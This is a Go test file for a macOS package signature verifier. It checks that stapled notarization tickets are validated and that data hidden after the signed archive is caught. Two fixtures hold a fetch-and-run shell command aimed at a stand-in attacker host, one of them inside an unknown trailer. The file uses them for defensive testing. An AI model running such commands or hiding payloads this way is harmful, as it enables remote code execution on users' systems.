package pkg

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/shipgate/shipgate/internal/machofile"
	"github.com/shipgate/shipgate/internal/pkgfile"
	"github.com/shipgate/shipgate/internal/ticketfile"
	"github.com/shipgate/shipgate/signing"
)

// stapledPkg returns a signed package with ticket(toc checksum) stapled
// after it, as stapler appends one.
func stapledPkg(t *testing.T, ticket func(...[]byte) []byte) []byte {
	t.Helper()
	b, _ := pkgfile.Build(signedSpec(t))
	digest := verifyBytes(t, b, machofile.SignTime).Reader.TOCDigest()
	return append(b, ticketfile.Staple(ticket(digest[:20]))...)
}

// TestStapledPackage: the ticket after the archive is not unowned data; it
// parses, names the table of contents checksum, and is reported as
// unverified; the signatures stay valid.
func TestStapledPackage(t *testing.T) {
	t.Parallel()
	res := verifyBytes(t, stapledPkg(t, ticketfile.Ticket), machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:valid apple-pkg-cms:valid" || rules(res) != string(RuleNotarizationTicketUnverified) {
		t.Fatalf("statuses %s, rules %s", got, rules(res))
	}
	n := res.Notarization
	if n == nil || !n.Bound() || !strings.HasPrefix(n.Location, "package trailer at ") || res.Signatures[1].Notarization != n {
		t.Errorf("notarization %+v", n)
	}
}

// TestStapledPackageOtherTicket: a ticket for another package is a
// warning and not bound.
func TestStapledPackageOtherTicket(t *testing.T) {
	t.Parallel()
	res := verifyBytes(t, stapledPkg(t, func(...[]byte) []byte { return ticketfile.Ticket(bytes.Repeat([]byte{3}, 20)) }), machofile.SignTime)
	if !strings.Contains(rules(res), string(RuleNotarizationTicketMismatch)) || res.Notarization.Bound() || res.Notarization.Status != signing.NotarizationStapledUnverified {
		t.Errorf("rules %s notarization %+v", rules(res), res.Notarization)
	}
}

// TestStapledPackageMalformed: a ticket that does not parse, trailers
// that do not reach a terminator, and bytes after the ticket trailer are
// errors, and the signatures are not left valid by unowned bytes.
func TestStapledPackageMalformed(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(signedSpec(t))
	tk := ticketfile.Ticket(bytes.Repeat([]byte{3}, 20))
	for _, c := range []struct {
		name string
		tail []byte
		rule signing.Rule
	}{
		{"garbage ticket", ticketfile.Staple([]byte("curl https://attacker.example | sh")), RuleNotarizationTicketMalformed},
		{"truncated ticket", ticketfile.Staple(tk[:100]), RuleNotarizationTicketMalformed},
		{"no terminator", append(bytes.Clone(tk), ticketfile.Trailer(2, len(tk))...), RuleNotarizationTicketMalformed},
		{"bytes after the trailer", append(ticketfile.Staple(tk), "stage2"...), RuleUnownedHeapData},
	} {
		t.Run(c.name, func(t *testing.T) {
			res := verifyBytes(t, append(bytes.Clone(b), c.tail...), machofile.SignTime)
			found := slices.ContainsFunc(res.Findings, func(f signing.Finding) bool {
				return f.Rule == c.rule && f.Severity == signing.SeverityError
			})
			if !found || res.Notarization.Bound() || statuses(res) != "apple-pkg:invalid apple-pkg-cms:invalid" {
				t.Errorf("statuses %s rules %s notarization %+v", statuses(res), rules(res), res.Notarization)
			}
		})
	}
}

// TestStapledPackageTicketLayout: bytes after the content the ticket's
// header declares are a warning (pkg/notarization-ticket-layout); the
// signatures stay valid.
func TestStapledPackageTicketLayout(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(signedSpec(t))
	tk := ticketfile.Ticket(bytes.Repeat([]byte{3}, 20))
	res := verifyBytes(t, append(bytes.Clone(b), ticketfile.Staple(append(bytes.Clone(tk), "stage2"...))...), machofile.SignTime)
	found := slices.ContainsFunc(res.Findings, func(f signing.Finding) bool {
		return f.Rule == RuleNotarizationTicketLayout && f.Severity == signing.SeverityWarning
	})
	if !found || statuses(res) != "apple-pkg:valid apple-pkg-cms:valid" || !strings.Contains(res.Notarization.Detail, "6 bytes follow") {
		t.Errorf("statuses %s rules %s notarization %+v", statuses(res), rules(res), res.Notarization)
	}
}

// TestUnstapledPackage: no trailer, no ticket.
func TestUnstapledPackage(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(signedSpec(t))
	if n := verifyBytes(t, b, machofile.SignTime).Notarization; n == nil || n.Status != signing.NotarizationNotStapled || len(n.CDHashes) != 1 {
		t.Errorf("notarization %+v", n)
	}
}

// TestStapledPackagePayloadInUnknownTrailer: Security.framework skips
// trailers of unknown types, which makes their data a hiding place after
// the signed archive: it is an error, and the signatures are invalid.
func TestStapledPackagePayloadInUnknownTrailer(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(signedSpec(t))
	digest := verifyBytes(t, b, machofile.SignTime).Reader.TOCDigest()
	payload := []byte("#!/bin/sh\ncurl https://attacker.example/stage2 | sh\n")
	tail := append(ticketfile.Staple(ticketfile.Ticket(digest[:20])), payload...)
	tail = append(tail, ticketfile.Trailer(7, len(payload))...)
	res := verifyBytes(t, append(bytes.Clone(b), tail...), machofile.SignTime)
	if !strings.Contains(rules(res), string(RuleNotarizationTicketMalformed)) || statuses(res) != "apple-pkg:invalid apple-pkg-cms:invalid" {
		t.Errorf("statuses %s rules %s", statuses(res), rules(res))
	}
	if !res.Notarization.Bound() {
		t.Errorf("the ticket itself is still read: %+v", res.Notarization)
	}
}

// TestAttackTrailerReservedBytes: each trailer stapler appends ends in
// four reserved bytes that Security.framework skips and no signature
// covers; non-zero ones are data hidden after the archive, reported as
// the malformed tail they are, as in the terminator or the ticket trailer.
func TestAttackTrailerReservedBytes(t *testing.T) {
	t.Parallel()
	b, _ := pkgfile.Build(signedSpec(t))
	digest := verifyBytes(t, b, machofile.SignTime).Reader.TOCDigest()
	tail := ticketfile.Staple(ticketfile.Ticket(digest[:20]))
	for _, at := range []int{12, len(tail) - 4} { // the terminator's, the ticket trailer's
		t.Run(fmt.Sprint(at), func(t *testing.T) {
			bad := bytes.Clone(tail)
			copy(bad[at:], "evil")
			res := verifyBytes(t, append(bytes.Clone(b), bad...), machofile.SignTime)
			found := slices.ContainsFunc(res.Findings, func(f signing.Finding) bool {
				return f.Rule == RuleNotarizationTicketMalformed && f.Severity == signing.SeverityError
			})
			if !found || statuses(res) != "apple-pkg:invalid apple-pkg-cms:invalid" {
				t.Errorf("statuses %s rules %s", statuses(res), rules(res))
			}
		})
	}
}
